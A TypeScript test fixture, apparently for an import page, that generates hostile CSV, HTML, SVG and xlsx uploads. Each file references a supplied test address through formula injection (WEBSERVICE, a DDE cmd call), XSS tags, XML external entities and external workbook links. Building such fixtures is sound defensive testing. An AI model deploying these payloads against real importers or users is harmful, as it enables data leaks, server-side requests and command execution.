import { strToU8, zipSync } from 'fflate';
import { csvFile, type UploadFile } from './import-page';

/** Files that name another address in every way their kind can. */
export function hostileFiles(origin: string): UploadFile[] {
	const address = `${origin}/file`;
	return [
		csvFile('式と札.csv', [
			'開催日,会議名,機関名,氏名',
			`2026/4/15,<img src=${address}>,"=WEBSERVICE(""${address}"")",+cmd|'/c calc'!A0`,
			`2026/4/15,"<svg onload=""fetch('${address}')"">",@SUM(1),"=HYPERLINK(""${address}"")"`,
			`2026/4/15,![x](${address}),javascript:fetch('${address}'),"<script src=""${address}"">"`
		]),
		textFile('名簿.xls', 'application/vnd.ms-excel', htmlTable(address)),
		textFile('図.svg', 'image/svg+xml', drawing(address)),
		textFile('図.csv', 'text/csv', drawing(address)),
		{ name: '外部参照.xlsx', mimeType: 'application/zip', buffer: workbook(address) }
	];
}

function textFile(name: string, mimeType: string, text: string): UploadFile {
	return { name, mimeType, buffer: Buffer.from(text) };
}

function htmlTable(address: string): string {
	return `<html><head><meta charset="utf-8"><base href="${address}/">
<link rel="stylesheet" href="${address}/style.css"><link rel="preload" href="${address}/p" as="image">
<meta http-equiv="refresh" content="0;url=${address}/refresh">
<script src="${address}/script.js"></script><style>@import url(${address}/i.css);
td { background: url(${address}/background.png) }</style></head><body onload="fetch('${address}')">
<iframe src="${address}/frame"></iframe><object data="${address}/object"></object>
<table background="${address}/table.png"><tr><th>開催日</th><th>会議名</th><th>機関名</th></tr>
<tr><td>2026/5/20</td><td><img src="${address}/a.png" onerror="fetch('${address}')"></td>
<td><a href="${address}" ping="${address}/ping">就労支援センター</a></td></tr></table></body></html>`;
}

function drawing(address: string): string {
	return `<?xml version="1.0"?><?xml-stylesheet href="${address}/style.xsl"?>
<!DOCTYPE svg [<!ENTITY leak SYSTEM "${address}/entity">]>
<svg xmlns="http://www.w3.org/2000/svg"><image href="${address}/image.png"/>
<script href="${address}/script.js"/><text>&leak;</text></svg>`;
}

const OFFICE = 'http://schemas.openxmlformats.org';
const RELATION = `${OFFICE}/officeDocument/2006/relationships`;

/** A workbook whose parts and cells lie elsewhere: relations, links, an image, an entity. */
function workbook(address: string): Buffer {
	const relation = (id: string, type: string, target: string, isExternal = true) =>
		`<Relationship Id="${id}" Type="${RELATION}/${type}" Target="${target}"${
			isExternal ? ' TargetMode="External"' : ''
		}/>`;
	const relations = (...list: string[]) =>
		strToU8(
			`<Relationships xmlns="${OFFICE}/package/2006/relationships">${list.join('')}</Relationships>`
		);
	const cell = (name: string, text: string) =>
		`<c r="${name}" t="inlineStr"><is><t>${text}</t></is></c>`;
	const rows = [
		['開催日', '会議名', '機関名'],
		['2026/6/17', '&leak;第1回', '就労支援センター']
	].map((texts, row) => {
		const cells = texts.map((text, column) => cell(`${'ABC'[column]}${row + 1}`, text));
		return `<row r="${row + 1}">${cells.join('')}</row>`;
	});
	const sheet = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY leak SYSTEM "${address}/entity">]>
<worksheet xmlns="${OFFICE}/spreadsheetml/2006/main" xmlns:r="${RELATION}"><sheetData>${rows.join('')}
<row r="3"><c r="A3"><f>WEBSERVICE("${address}/formula")</f><v>1</v></c></row></sheetData>
<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks><picture r:id="rId2"/></worksheet>`;
	const types = [
		['/xl/workbook.xml', 'sheet.main'],
		['/xl/worksheets/sheet1.xml', 'worksheet']
	].map(
		([part, type]) =>
			`<Override PartName="${part}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.${type}+xml"/>`
	);
	const files = {
		'[Content_Types].xml': strToU8(
			`<Types xmlns="${OFFICE}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>${types.join('')}</Types>`
		),
		'_rels/.rels': relations(relation('rId1', 'officeDocument', 'xl/workbook.xml', false)),
		'xl/workbook.xml': strToU8(
			`<workbook xmlns="${OFFICE}/spreadsheetml/2006/main" xmlns:r="${RELATION}"><sheets><sheet name="出席" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>`
		),
		'xl/_rels/workbook.xml.rels': relations(
			relation('rId1', 'worksheet', 'worksheets/sheet1.xml', false),
			relation('rId2', 'externalLink', `${address}/book.xlsx`),
			relation('rId3', 'attachedTemplate', `${address}/template.xltx`)
		),
		'xl/worksheets/sheet1.xml': strToU8(sheet),
		'xl/worksheets/_rels/sheet1.xml.rels': relations(
			relation('rId1', 'hyperlink', `${address}/link`),
			relation('rId2', 'image', `${address}/image.png`)
		)
	};
	return Buffer.from(zipSync(files));
}
